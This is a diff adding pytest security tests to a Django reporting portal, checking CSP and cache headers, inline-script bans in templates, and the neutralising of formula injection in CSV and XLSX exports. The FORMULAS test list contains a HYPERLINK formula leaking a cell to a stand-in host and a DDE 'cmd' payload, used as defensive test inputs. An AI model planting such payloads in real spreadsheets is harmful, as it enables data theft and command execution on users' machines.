@@ -35,3 +35,131 @@ def test_anonymous_visitor_is_sent_to_login(client, path):
     response = client.get(path)
     assert response.status_code == 302
     assert "login" in response.url
+
+
+# ---- headers on every page a persona sees ---------------------------------------------------
+
+PERSONA_PAGES = {
+    "staff_client": ["/", "/campaigns/", "/clusters/", "/reports/matrix/", "/reports/reminders/", "/accounts/profile/"],
+    "leadership_client": ["/", "/campaigns/", "/clusters/", "/reports/matrix/", "/accounts/organizations/"],
+    "officer_a_client": ["/", "/campaigns/", "/clusters/", "/reports/", "/accounts/password/"],
+    "officer_b_client": ["/", "/reports/"],
+    "outsider_client": ["/", "/accounts/profile/"],
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("persona", "path"), [(persona, path) for persona, paths in PERSONA_PAGES.items() for path in paths]
+)
+def test_every_page_after_log_in_carries_the_security_headers(request, persona, path):
+    response = request.getfixturevalue(persona).get(path)
+    assert response.status_code == 200
+    csp = response["Content-Security-Policy"]
+    assert "default-src 'self'" in csp
+    assert "script-src 'self'" in csp
+    assert "style-src 'self'" in csp
+    assert "frame-ancestors 'none'" in csp
+    assert "unsafe-inline" not in csp
+    assert "unsafe-eval" not in csp
+    assert "camera=()" in response["Permissions-Policy"]
+    assert response["Cache-Control"] == "no-store"
+
+
+@pytest.mark.django_db
+def test_the_login_page_carries_the_policy_too(client):
+    response = client.get("/accounts/login/")
+    assert "default-src 'self'" in response["Content-Security-Policy"]
+    assert "Permissions-Policy" in response
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_are_not_stored_by_browsers_or_proxies(staff_client, fmt):
+    response = staff_client.get(f"/reports/matrix/export.{fmt}")
+    assert response.status_code == 200
+    assert response["Cache-Control"] == "no-store"
+
+
+@pytest.mark.django_db
+def test_attachments_are_not_stored_by_browsers_or_proxies(officer_a, officer_a_client, unit_a):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from reports import services
+    from tests.files import PDF
+    from tests.reports.factories import QuarterlyReportFactory
+
+    report = QuarterlyReportFactory(organization=unit_a)
+    attachment = services.add_attachment(report=report, by=officer_a, file=SimpleUploadedFile("a.pdf", PDF))
+    response = officer_a_client.get(f"/reports/attachments/{attachment.pk}/")
+    assert response.status_code == 200
+    assert response["Cache-Control"] == "no-store"
+
+
+def test_no_template_has_inline_styles_or_scripts():
+    """The policy allows no inline script or style: templates must not need one."""
+    import re
+    from pathlib import Path
+
+    base = Path(__file__).resolve().parent.parent
+    offenders = []
+    for template in base.glob("**/templates/**/*.html"):
+        if ".venv" in template.parts or "node_modules" in template.parts:
+            continue
+        relative = template.relative_to(base)
+        # PDFs (WeasyPrint) and e-mails never meet the browser's policy.
+        if "pdf" in relative.parts or "emails" in relative.parts:
+            continue
+        text = template.read_text()
+        if re.search(r"\sstyle=|<style|<script(?![^>]*\ssrc=)(?![^>]*application/json)|\son[a-z]+=", text):
+            offenders.append(str(relative))
+    assert offenders == []
+
+
+# ---- spreadsheets: user text is never a formula -----------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_look_like_formulas_get_an_apostrophe(text):
+    from emulation_portal.spreadsheets import csv_safe
+
+    assert csv_safe(text) == "'" + text
+    assert csv_safe("Sở TTTT Gia Lai") == "Sở TTTT Gia Lai"
+    assert csv_safe(-5) == -5
+
+
+@pytest.mark.django_db
+def test_matrix_exports_neutralise_formulas_in_unit_names(staff_client):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from tests.factories import OrganizationFactory
+    from tests.reports.factories import make_period
+
+    make_period(2026, 2)
+    for n, text in enumerate(FORMULAS[:4]):
+        OrganizationFactory(code=f"formula-{n}", name=text, short_name=f"Đơn vị {n} (minh họa)")
+
+    response = staff_client.get("/reports/matrix/export.csv", {"year": 2026})
+    content = response.getvalue().decode("utf-8-sig")
+    names = {row[0] for row in csv.reader(io.StringIO(content))}
+    for text in FORMULAS[:4]:
+        assert "'" + text in names
+        assert text not in names
+
+    response = staff_client.get("/reports/matrix/export.xlsx", {"year": 2026})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {cell.value: cell for cell in sheet["A"]}
+    for text in FORMULAS[:4]:
+        assert cells[text].data_type == "s", text
